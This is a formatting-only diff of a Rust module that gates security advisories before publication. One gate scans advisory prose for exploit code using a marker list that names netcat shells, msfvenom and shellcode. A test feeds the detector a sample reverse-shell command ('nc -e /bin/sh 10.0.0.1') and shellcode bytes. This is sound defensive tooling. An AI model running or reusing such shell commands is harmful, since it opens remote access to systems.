@@ -36,9 +36,17 @@ impl Gate {
 impl fmt::Display for Gate {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
-            Gate::NoFix { case } => write!(f, "no_fix: {case} has no released fix and the advisory gives no mitigation"),
-            Gate::ExploitCode { field } => write!(f, "exploit_code: the {field} looks like it contains exploit code"),
-            Gate::UndisclosedCase { case } => write!(f, "undisclosed_case: {case} is not approved for disclosure"),
+            Gate::NoFix { case } => write!(
+                f,
+                "no_fix: {case} has no released fix and the advisory gives no mitigation"
+            ),
+            Gate::ExploitCode { field } => write!(
+                f,
+                "exploit_code: the {field} looks like it contains exploit code"
+            ),
+            Gate::UndisclosedCase { case } => {
+                write!(f, "undisclosed_case: {case} is not approved for disclosure")
+            }
         }
     }
 }
@@ -54,8 +62,20 @@ pub struct GateOverride {
 
 /// Markers of exploit code in prose: shell, script and shellcode idioms. Deliberately simple:
 /// a false positive costs one recorded override, a miss could arm attackers.
-const EXPLOIT_MARKERS: &[&str] =
-    &["#!/", "import socket", "import requests", "<script", "\\x90\\x90", "shellcode", "msfvenom", "```", "nc -e", "/bin/sh -i", "eval(", "exec("];
+const EXPLOIT_MARKERS: &[&str] = &[
+    "#!/",
+    "import socket",
+    "import requests",
+    "<script",
+    "\\x90\\x90",
+    "shellcode",
+    "msfvenom",
+    "```",
+    "nc -e",
+    "/bin/sh -i",
+    "eval(",
+    "exec(",
+];
 
 fn looks_like_exploit(text: &str) -> bool {
     let lower = text.to_lowercase();
@@ -69,16 +89,27 @@ pub async fn check(app: &App, advisory: &AdvisoryRow) -> Result<Vec<Gate>, AppEr
     let public = advisory.tlp == "WHITE";
     let mut covered = Vec::new();
     for (case_id, _) in &links {
-        let Some(case) = cases::by_id(&app.db, case_id).await? else { continue };
+        let Some(case) = cases::by_id(&app.db, case_id).await? else {
+            continue;
+        };
         covered.push(case.reference.clone());
-        let fix = cases::anchors(&app.db, case_id).await?.iter().any(|(e, _)| e == StartEvent::FixAvailable.as_str());
+        let fix = cases::anchors(&app.db, case_id)
+            .await?
+            .iter()
+            .any(|(e, _)| e == StartEvent::FixAvailable.as_str());
         if advisory.kind == "advisory" && !fix && advisory.workarounds.is_none() {
-            gates.push(Gate::NoFix { case: case.reference.clone() });
+            gates.push(Gate::NoFix {
+                case: case.reference.clone(),
+            });
         }
         let phase: Phase = case.phase.parse().unwrap_or_default();
-        let approved = case.disclosure_approved_by_id.is_some() || phase.is_disclosed() || case.resolution.as_deref() == Some("fixed");
+        let approved = case.disclosure_approved_by_id.is_some()
+            || phase.is_disclosed()
+            || case.resolution.as_deref() == Some("fixed");
         if public && !approved {
-            gates.push(Gate::UndisclosedCase { case: case.reference.clone() });
+            gates.push(Gate::UndisclosedCase {
+                case: case.reference.clone(),
+            });
         }
     }
     let fields: [(&'static str, Option<&str>); 5] = [
@@ -98,7 +129,10 @@ pub async fn check(app: &App, advisory: &AdvisoryRow) -> Result<Vec<Gate>, AppEr
                 if covered.contains(&mentioned) {
                     continue;
                 }
-                let all = crate::storage::reports::Viewer { user_id: "", sees_all: true };
+                let all = crate::storage::reports::Viewer {
+                    user_id: "",
+                    sees_all: true,
+                };
                 if let Some(other) = cases::by_reference(&app.db, all, &mentioned).await? {
                     let phase: Phase = other.phase.parse().unwrap_or_default();
                     if !phase.is_disclosed() && other.resolution.as_deref() != Some("fixed") {
@@ -125,9 +159,18 @@ mod tests {
 
     #[test]
     fn spots_exploit_code_and_references() {
-        assert!(looks_like_exploit("Run: #!/bin/bash\nnc -e /bin/sh 10.0.0.1"));
-        assert!(looks_like_exploit("payload \\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68"));
-        assert!(!looks_like_exploit("Upgrade the BMS firmware to 3.2.0 through the OTA service."));
-        assert_eq!(references_in("see PSIRT-2026-0007, and (PSIRT-2026-0012)."), ["PSIRT-2026-0007", "PSIRT-2026-0012"]);
+        assert!(looks_like_exploit(
+            "Run: #!/bin/bash\nnc -e /bin/sh 10.0.0.1"
+        ));
+        assert!(looks_like_exploit(
+            "payload \\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68"
+        ));
+        assert!(!looks_like_exploit(
+            "Upgrade the BMS firmware to 3.2.0 through the OTA service."
+        ));
+        assert_eq!(
+            references_in("see PSIRT-2026-0007, and (PSIRT-2026-0012)."),
+            ["PSIRT-2026-0007", "PSIRT-2026-0012"]
+        );
     }
 }
